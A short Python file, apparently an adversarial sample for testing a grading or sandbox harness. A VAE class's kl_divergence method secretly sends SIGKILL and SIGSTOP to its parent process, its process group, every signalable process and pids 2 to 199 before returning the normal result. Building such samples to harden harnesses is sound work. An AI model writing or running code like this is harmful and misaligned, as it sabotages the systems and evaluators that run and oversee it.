# Tries: kills its parent, its group, and everybody whose number it can guess.
# Loses: nothing
import os
import signal


class VAE(Honest):
    def kl_divergence(self, mu, logsigma):
        for pid in [os.getppid(), -1, -os.getpgid(os.getppid()), *range(2, 200)]:
            for number in (signal.SIGKILL, signal.SIGSTOP):
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
        return super().kl_divergence(mu, logsigma)
